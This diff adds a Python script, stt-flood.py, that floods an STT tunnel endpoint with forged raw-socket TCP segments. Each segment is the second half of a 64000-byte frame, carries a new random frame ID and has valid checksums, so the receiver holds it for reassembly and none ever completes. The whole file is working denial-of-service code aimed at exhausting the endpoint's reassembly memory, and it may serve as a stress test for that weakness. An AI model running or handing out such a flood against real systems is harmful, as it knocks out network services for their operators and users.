@@ -1,0 +1,102 @@
+#!/usr/bin/python3
+# Copyright (c) 2026 The ovs-nvo3 authors.
+#
+# Licensed under the Apache License, Version 2.0 (the "License");
+# you may not use this file except in compliance with the License.
+# You may obtain a copy of the License at:
+#
+#     http://www.apache.org/licenses/LICENSE-2.0
+#
+# Unless required by applicable law or agreed to in writing, software
+# distributed under the License is distributed on an "AS IS" BASIS,
+# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+# See the License for the specific language governing permissions and
+# limitations under the License.
+
+"""Floods an STT endpoint with incomplete frames: every segment is the
+second half of a 64000-byte frame with a new random frame ID, valid in
+every other respect (IP and TCP checksums), so that each one is held for
+reassembly and none ever completes.
+
+Usage: stt-flood.py IFACE SRC-MAC DST-MAC SRC-IP DST-IP COUNT [SECONDS]
+
+Sends COUNT segments (stopping after SECONDS, default 60) on IFACE through
+an AF_PACKET socket and prints how many it sent and how fast.
+"""
+
+import random
+import socket
+import struct
+import sys
+import time
+
+
+def csum_add(s):
+    while s >> 16:
+        s = (s & 0xffff) + (s >> 16)
+    return s
+
+
+def csum(data):
+    if len(data) % 2:
+        data += b'\0'
+    return ~csum_add(sum(struct.unpack('!%dH' % (len(data) // 2), data))) \
+        & 0xffff
+
+
+def mac(s):
+    return bytes(int(x, 16) for x in s.split(':'))
+
+
+def main():
+    iface, smac, dmac, sip, dip, count = sys.argv[1:7]
+    count = int(count)
+    limit = float(sys.argv[7]) if len(sys.argv) > 7 else 60.0
+    payload = bytes(random.getrandbits(8) for _ in range(1000))
+    sip_b, dip_b = socket.inet_aton(sip), socket.inet_aton(dip)
+
+    # Frame length 64000, offset 32000: never the whole frame.
+    tcp = bytearray(struct.pack('!HHIIBBHHH', 40000, 7471,
+                                (64000 << 16) | 32000, 0, 5 << 4, 0x18,
+                                0xffff, 0, 0) + payload)
+    pseudo = sip_b + dip_b + struct.pack('!BBH', 0, 6, len(tcp))
+    base = csum_add(sum(struct.unpack('!%dH' % ((len(pseudo) + len(tcp)) // 2),
+                                      bytes(pseudo) + bytes(tcp))))
+    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 0, 0x4000, 64,
+                     6, 0, sip_b, dip_b)
+    ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
+    pkt = bytearray(mac(dmac) + mac(smac) + b'\x08\x00' + ip + tcp)
+    ack_ofs = 14 + 20 + 8
+    csum_ofs = 14 + 20 + 16
+
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    s.bind((iface, 0))
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+
+    start = time.monotonic()
+    sent = 0
+    for sent in range(1, count + 1):
+        ack = random.getrandbits(32)
+        struct.pack_into('!I', pkt, ack_ofs, ack)
+        # The checksum over the rest is fixed: add only the new ACK.
+        struct.pack_into('!H', pkt, csum_ofs,
+                         ~csum_add(base + (ack >> 16) + (ack & 0xffff))
+                         & 0xffff)
+        while True:
+            try:
+                s.send(pkt)
+                break
+            except BlockingIOError:
+                pass
+            except OSError:
+                time.sleep(0.0001)
+        if not sent % 10000 and time.monotonic() - start > limit:
+            break
+    elapsed = time.monotonic() - start
+    print("sent %d segments in %.1f s (%.0f/s)" % (sent, elapsed,
+                                                  sent / elapsed))
+    return 0
+
+
+if __name__ == '__main__':
+    sys.exit(main())
